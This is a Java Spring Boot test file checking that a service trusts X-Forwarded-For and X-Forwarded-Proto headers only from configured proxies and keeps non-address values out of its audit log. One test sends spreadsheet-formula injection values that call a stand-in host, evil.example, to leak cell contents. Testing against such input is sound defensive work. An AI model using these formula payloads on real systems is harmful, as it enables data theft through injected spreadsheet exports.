package io.runway.worker;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.Base64;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.test.annotation.DirtiesContext;
import tools.jackson.databind.JsonNode;

/**
 * Behind a reverse proxy that runway.http.trusted-proxies names (here the loopback address the tests
 * connect from): its X-Forwarded-For gives the client's address, its X-Forwarded-Proto makes a request
 * HTTPS, and what the headers carry is believed only when it is an address.
 */
@SpringBootTest(classes = RunwayApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
    properties = "runway.http.trusted-proxies=127.0.0.1/32, ::1")
@DirtiesContext(classMode = DirtiesContext.ClassMode.AFTER_CLASS)
class TrustedProxyTest extends ApiTestSupport {

  private final HttpClient http = HttpClient.newHttpClient();

  private HttpResponse<String> get(String path, String credentials, Map<String, String> headers) throws Exception {
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).GET()
        .timeout(Duration.ofSeconds(60))
        .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(credentials.getBytes(StandardCharsets.UTF_8)));
    headers.forEach(request::header);
    return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }

  @Test
  void theProxysForwardedAddressAndSchemeAreTaken() throws Exception {
    Instant start = Instant.now();
    String key = uniqueKey("proxied");

    HttpResponse<String> response = get("/api/v1/initiatives/" + key, "auditor-1:wrong",
        Map.of("X-Forwarded-For", "198.51.100.20, 203.0.113.7", "X-Forwarded-Proto", "https"));

    assertThat(response.statusCode()).isEqualTo(401);
    assertThat(response.headers().firstValue("Strict-Transport-Security")).contains("max-age=31536000 ; includeSubDomains");
    assertThat(sourceOf(start, key)).as("the address the proxy saw, not what the client put before it").isEqualTo("203.0.113.7");
  }

  @Test
  void aForwardedValueThatIsNoAddressIsNeverTakenOrStored() throws Exception {
    Instant start = Instant.now();
    String formulaOnly = uniqueKey("formula-only");
    String formulaThenClient = uniqueKey("formula-then-client");

    get("/api/v1/initiatives/" + formulaOnly, "auditor-1:wrong",
        Map.of("X-Forwarded-For", "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"click\")"));
    get("/api/v1/initiatives/" + formulaThenClient, "auditor-1:wrong",
        Map.of("X-Forwarded-For", "=HYPERLINK(\"http://evil.example\"), 203.0.113.9"));

    assertThat(sourceOf(start, formulaOnly)).as("the proxy itself").isEqualTo("127.0.0.1");
    assertThat(sourceOf(start, formulaThenClient)).as("the address the proxy appended").isEqualTo("203.0.113.9");
  }

  private String sourceOf(Instant start, String key) {
    JsonNode items = api.get("auditor-1", "/api/v1/audit?size=5000&from=" + start.truncatedTo(ChronoUnit.MICROS)).json()
        .path("items");
    for (JsonNode entry : items) {
      if (entry.path("action").asString().equals("GET /api/v1/initiatives/" + key)) {
        return entry.path("sourceAddress").asString();
      }
    }
    throw new AssertionError("no audit entry for " + key + " in " + items);
  }
}
